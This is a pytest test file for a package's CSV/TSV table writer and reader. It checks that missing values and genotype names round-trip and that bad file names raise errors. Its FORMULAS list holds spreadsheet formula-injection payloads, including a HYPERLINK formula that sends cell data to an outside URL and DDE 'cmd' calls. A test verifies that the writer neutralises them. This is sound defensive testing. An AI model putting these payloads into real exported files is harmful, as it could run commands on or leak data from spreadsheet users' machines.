"""Tables as text files, and back."""

from pathlib import Path

import numpy as np
import pandas as pd
import pytest

import cellflow as cf
from cellflow import FileError, InputError
from cellflow.io import read_table, write_table


@pytest.mark.parametrize("name", ["t.csv", "t.tsv"])
def test_names_stay_text_and_missing_numbers_missing(tmp_path, name):
    table = pd.DataFrame(
        {"groups": "kind", "source": ["1", "NA", ""], "target": ["2.0", "a,b", "x\ty"],
         "mass": [0.5, np.nan, 1.0]}
    )  # fmt: skip
    write_table(table, tmp_path / name)
    pd.testing.assert_frame_equal(read_table(tmp_path / name), table, check_dtype=False)


FORMULAS = [
    '=HYPERLINK("http://a.b?"&A1,"x")', "=cmd|'/C calc'!A0", "+SUM(A1)", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)", "\t=WEBSERVICE(A1)", "\r=a!b", "='[b.xlsx]s'!A1", "\uff1dSUM (1)", "'=SUM(A1)",
    "''=SUM(A1)", "-\n=SUM(A1)",
]  # fmt: skip
NAMES = [
    "-",
    "+",
    "+/+",
    "+/-",
    "-/- (KO)",
    "@home",
    "=",
    "-1",
    "CD4+ (naive)",
    "'",
    "'-",
    "5'UTR",
    "a\r=b",
]


@pytest.mark.parametrize("name", ["t.csv", "t.tsv"])
def test_no_text_is_a_formula_and_names_of_genotypes_stay(tmp_path, name, caplog):
    texts = [*FORMULAS, *NAMES]
    table = pd.DataFrame({"gene": texts, "=f(a)": pd.Categorical(texts), "x": -1.5})
    write_table(table, tmp_path / name)
    assert name in caplog.text
    kept = {
        "keep_default_na": False,
        "sep": "," if name == "t.csv" else "\t",
        "dtype": {"gene": str},
    }
    raw = pd.read_csv(tmp_path / name, **kept)
    assert list(raw) == ["gene", "'=f(a)", "x"]
    assert raw["gene"].tolist() == [*("'" + text for text in FORMULAS), *NAMES]
    assert (raw["x"] == -1.5).all()
    again = read_table(tmp_path / name)
    assert list(again) == list(table)
    assert again["gene"].tolist() == again["=f(a)"].tolist() == texts


def test_no_other_module_writes_tables_as_text():
    package = Path(cf.__file__).parent
    writers = [each.name for each in package.rglob("*.py") if ".to_csv(" in each.read_text()]
    assert writers == ["_csv.py"]


def test_what_is_no_table_is_named(tmp_path):
    with pytest.raises(InputError, match=r"tables are written as .csv or .tsv; name it t.csv"):
        write_table(pd.DataFrame(), tmp_path / "t.xlsx")
    with pytest.raises(FileError, match=r"t\.csv does not exist"):
        read_table(tmp_path / "t.csv")
    (tmp_path / "t.csv").touch()
    with pytest.raises(FileError, match=r"t\.csv is not a table"):
        read_table(tmp_path / "t.csv")
